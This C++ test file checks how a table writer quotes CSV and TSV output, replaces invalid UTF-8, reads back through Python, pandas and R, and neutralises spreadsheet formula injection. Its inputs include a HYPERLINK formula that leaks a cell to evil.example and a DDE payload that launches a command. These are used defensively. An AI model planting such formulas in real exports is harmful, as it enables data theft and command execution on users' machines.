// How a written table reads back: quoted as pandas and readr write (a field
// holding the separator, a quote, CR or LF is quoted, quotes doubled, nothing
// else escaped), checked with the readers users have (Python's csv, pandas,
// R's readr and read.delim);
// and what it does when opened in a spreadsheet: cells that a spreadsheet
// would evaluate as a formula are neutralised (OWASP's leading single quote),
// numbers are not.

#include <sys/wait.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iterator>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "mgnify/tables/table.hpp"
#include "read_table.hpp"
#include "skip.hpp"
#include "temp_dir.hpp"
#include "text_lines.hpp"

namespace tables = mgnify::tables;
using mgnify::test::table_readback::read_back;
using mgnify::test::table_readback::ReadBack;

namespace {

tables::Table one_column(const std::string& name, const std::vector<std::string>& values) {
  tables::Table t;
  t.columns = {name};
  for (const auto& v : values) t.rows.push_back({v});
  return t;
}

using mgnify::test::text_lines::lines_of;

}  // namespace

TEST_CASE("CSV and TSV neutralise submitter text that a spreadsheet would run as a formula",
          "[tables][format][formula]") {
  const std::string hyperlink = R"(=HYPERLINK("http://evil.example/?leak="&A2,"Click"))";
  const std::string dde = "@SUM(1+1)*cmd|' /C calc'!A0";
  const tables::Table t = one_column("title", {hyperlink, dde, "+cmd", "-2+3", "=1+1"});

  std::ostringstream csv;
  tables::write_csv(csv, t);
  const auto c = lines_of(csv.str());
  REQUIRE(c.size() == 6);
  CHECK(c[1] == R"x("'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")")x");
  CHECK(c[2] == "'" + dde);
  CHECK(c[3] == "'+cmd");
  CHECK(c[4] == "'-2+3");
  CHECK(c[5] == "'=1+1");

  std::ostringstream tsv;
  tables::write_tsv(tsv, t);
  const auto s = lines_of(tsv.str());
  REQUIRE(s.size() == 6);
  CHECK(s[2] == "'" + dde);
  CHECK(s[3] == "'+cmd");
  CHECK(s[4] == "'-2+3");
  CHECK(s[5] == "'=1+1");
}

TEST_CASE("a cell starting with a tab or CR is neutralised too", "[tables][format][formula]") {
  std::ostringstream csv;
  tables::write_csv(csv, one_column("x", {"\t=1+1", "\r=1+1"}));
  CHECK(csv.str() == "x\n'\t=1+1\n\"'\r=1+1\"\n");
}

TEST_CASE("numbers keep their sign: latitudes, exponents and explicit plus signs",
          "[tables][format][formula]") {
  const std::vector<std::string> numbers = {"-12.5", "+3",  "-1e-5", "0", "-0.25",
                                            "1E+10", "-.5", "7.",    "12"};
  std::ostringstream csv;
  tables::write_csv(csv, one_column("lat", numbers));
  const auto lines = lines_of(csv.str());
  REQUIRE(lines.size() == numbers.size() + 1);
  for (std::size_t i = 0; i < numbers.size(); ++i) CHECK(lines[i + 1] == numbers[i]);
}

TEST_CASE("a column name from a metadata key is neutralised like a cell",
          "[tables][format][formula]") {
  std::ostringstream tsv;
  tables::write_tsv(tsv, one_column("=cmd()", {"1"}));
  CHECK(lines_of(tsv.str()).at(0) == "'=cmd()");
}

TEST_CASE("TSV and CSV quote a field holding the separator, a quote, CR or LF; nothing else",
          "[tables][format]") {
  tables::Table t;
  t.columns = {"id", "note"};
  t.rows = {{std::string("a"), std::string("\"title\" starts with a quote")},
            {std::string("b"), std::string("tab\there")},
            {std::string("c"), std::string("two\nlines\r\n")},
            {std::string("d"), std::string("C:\\dir\\x, kept")},
            {std::string("e"), std::string("esc \x1b[2J stays")}};

  std::ostringstream tsv;
  tables::write_tsv(tsv, t);
  CHECK(tsv.str() ==
        "id\tnote\n"
        "a\t\"\"\"title\"\" starts with a quote\"\n"
        "b\t\"tab\there\"\n"
        "c\t\"two\nlines\r\n\"\n"
        "d\tC:\\dir\\x, kept\n"
        "e\tesc \x1b[2J stays\n");

  std::ostringstream csv;
  tables::write_csv(csv, t);
  CHECK(csv.str() ==
        "id,note\n"
        "a,\"\"\"title\"\" starts with a quote\"\n"
        "b,tab\there\n"
        "c,\"two\nlines\r\n\"\n"
        "d,\"C:\\dir\\x, kept\"\n"
        "e,esc \x1b[2J stays\n");
}

TEST_CASE("bytes that are not UTF-8 are written as U+FFFD, so that UTF-8 readers can open the file",
          "[tables][format]") {
  std::ostringstream tsv;
  tables::write_tsv(tsv, one_column("x\xff", {"a\xfe\xc3z"}));
  CHECK(tsv.str() == "x\xef\xbf\xbd\na\xef\xbf\xbd\xef\xbf\xbdz\n");
}

namespace {

using FormatTempDir = mgnify::test::TempDir;

using mgnify::test::table_readback::is_r_reader;

/// Values that broke or changed rows in earlier versions, each in a row of its own.
std::vector<std::string> hostile_values() {
  std::string big;
  for (int i = 0; big.size() < (1u << 20); ++i)
    big += "line " + std::to_string(i) + "\t\"q\", \r\n";
  return {"\"leading quote",
          "a \"quoted\" word",
          "\"",
          "tab\there",
          "two\nlines",
          "carriage\rreturn",
          "crlf\r\nend",
          "C:\\dir\\x",
          "ends with a backslash\\",
          "comma, then more",
          " leading and trailing spaces ",
          "#not a comment",
          "'single quotes'",
          "=1+1",
          "esc \x1b[2J and C1 \xc2\x9b",
          "caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac",
          big};
}

tables::Table hostile_table() {
  tables::Table t;
  t.columns = {"id", "value", "absent"};
  const auto values = hostile_values();
  for (std::size_t i = 0; i < values.size(); ++i)
    t.rows.push_back({"row" + std::to_string(i), values[i], std::nullopt});
  // Not UTF-8: read back as U+FFFD.
  t.rows.push_back({std::string("latin1"), std::string("caf\xe9"), std::nullopt});
  return t;
}

/// `back` holds `t`'s cells, each as `as_read` says the reader gives the
/// written value back (exactly, by default), and the absent column as null or "".
void check_read_back(const ReadBack& back, const tables::Table& t, bool absent_is_null,
                     const std::function<std::string(const std::string&)>& as_read = {}) {
  REQUIRE(back.table.at("columns") == nlohmann::json(t.columns));
  const auto& rows = back.table.at("rows");
  REQUIRE(rows.size() == t.rows.size());
  for (std::size_t r = 0; r < t.rows.size(); ++r) {
    INFO("row " << r);
    REQUIRE(rows[r].size() == t.columns.size());
    CHECK(rows[r][0] == *t.rows[r][0]);
    const std::string expected =
        *t.rows[r][0] == "latin1" ? std::string("caf\xef\xbf\xbd") : *t.rows[r][1];
    CHECK(rows[r][1].get<std::string>() == (as_read ? as_read(expected) : expected));
    if (absent_is_null) {
      CHECK(rows[r][2].is_null());
    } else {
      CHECK(rows[r][2] == "");
    }
  }
}

/// `t` written as `format` ("tsv" or "csv") without the formula guard, into `dir`.
std::filesystem::path write_exact(const tables::Table& t, const std::filesystem::path& dir,
                                  const std::string& format) {
  tables::WriteOptions exact;
  exact.formula_guard = false;
  const auto file = dir / ("t." + format);
  std::ofstream out(file, std::ios::binary);
  if (format == "tsv") {
    tables::write_tsv(out, t, exact);
  } else {
    tables::write_csv(out, t, exact);
  }
  return file;
}

}  // namespace

TEST_CASE("hostile values read back exactly through Python's csv module, TSV and CSV",
          "[tables][format][roundtrip]") {
  const FormatTempDir dir;
  const tables::Table t = hostile_table();
  for (const char* format : {"tsv", "csv"}) {
    INFO(format);
    const ReadBack back = read_back("csv", format, write_exact(t, dir.path(), format));
    if (!back.installed) MGNIFY_SKIP_TEST(MGNIFY_PYTHON3 " is not installed");
    check_read_back(back, t, false);
  }
}

TEST_CASE("hostile values read back exactly through pandas.read_csv, TSV and CSV",
          "[tables][format][roundtrip]") {
  const FormatTempDir dir;
  const tables::Table t = hostile_table();
  for (const char* format : {"tsv", "csv"}) {
    INFO(format);
    const ReadBack back = read_back("pandas", format, write_exact(t, dir.path(), format));
    if (!back.installed)
      MGNIFY_SKIP_TEST("pandas (python3-pandas) is not installed for " MGNIFY_PYTHON3);
    check_read_back(back, t, true);
  }
}

TEST_CASE("with the formula guard on, pandas reads the neutralised cell with its quote",
          "[tables][format][roundtrip][formula]") {
  const FormatTempDir dir;
  const auto file = dir.path() / "guarded.tsv";
  {
    std::ofstream out(file, std::ios::binary);
    tables::write_tsv(
        out, one_column("title", {"=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1", "plain"}));
  }
  const ReadBack back = read_back("pandas", "tsv", file);
  if (!back.installed)
    MGNIFY_SKIP_TEST("pandas (python3-pandas) is not installed for " MGNIFY_PYTHON3);
  CHECK(back.table.at("rows") ==
        nlohmann::json::parse(R"j([["'=HYPERLINK(\"http://evil.example\",\"x\")"],
                                    ["'\t=1+1"], ["plain"]])j"));
}

namespace {

/// What R reads for a written value with its defaults, as measured: readr
/// (`trim_ws = TRUE`) strips spaces and tabs at both ends of every field,
/// quoted or not; base R's scan(), under read.delim and read.csv, turns CR
/// and CRLF inside a quoted field into LF. Bytes that are not UTF-8 never
/// reach R: the writer has made them U+FFFD.
std::string as_r_reads(const std::string& reader, std::string value) {
  if (reader == "readr") {
    const auto first = value.find_first_not_of(" \t");
    value = first == std::string::npos
                ? std::string()
                : value.substr(first, value.find_last_not_of(" \t") + 1 - first);
  } else if (reader == "read.delim") {
    std::string lf;
    for (std::size_t i = 0; i < value.size(); ++i) {
      if (value[i] == '\r') {
        lf += '\n';
        if (i + 1 < value.size() && value[i + 1] == '\n') ++i;
      } else {
        lf += value[i];
      }
    }
    value = lf;
  }
  return value;
}

}  // namespace

TEST_CASE("hostile values through R: readr::read_tsv and read_csv, read.delim and read.csv",
          "[tables][format][roundtrip][r]") {
  const FormatTempDir dir;
  const tables::Table t = hostile_table();
  for (const char* reader : {"readr-exact", "readr", "read.delim"}) {
    for (const char* format : {"tsv", "csv"}) {
      INFO(reader << " " << format);
      const ReadBack back = read_back(reader, format, write_exact(t, dir.path(), format));
      if (!back.installed)
        MGNIFY_SKIP_TEST(
            "Rscript with readr and jsonlite (r-base-core, r-cran-readr) is not "
            "installed");
      // An empty field: NA for readr's defaults and for read.delim's logical column.
      check_read_back(back, t, std::string(reader) != "readr-exact",
                      [&](const std::string& value) { return as_r_reads(reader, value); });
    }
  }
}

TEST_CASE("writing a table counts the cells whose invalid UTF-8 became U+FFFD",
          "[tables][format]") {
  tables::Table t;
  t.columns = {"feature", "bad\xff name"};
  t.rows = {{std::string("sk__Bacteria"), std::string("1")},
            {std::string("k__Fung\xc3"), std::string("2")},
            {std::string("ok"), std::nullopt},
            {std::string("\xfe\xfe"), std::string("3")}};
  for (const bool csv : {false, true}) {
    std::ostringstream out;
    const tables::WriteReport report = csv ? tables::write_csv(out, t) : tables::write_tsv(out, t);
    CHECK(report.replaced_cells == 3);  // the header's name and two cells
    CHECK(out.str().find("\xef\xbf\xbd") != std::string::npos);
  }
  std::ostringstream clean;
  t.columns[1] = "count";
  t.rows.pop_back();
  t.rows.erase(t.rows.begin() + 1);
  CHECK(tables::write_tsv(clean, t).replaced_cells == 0);
}
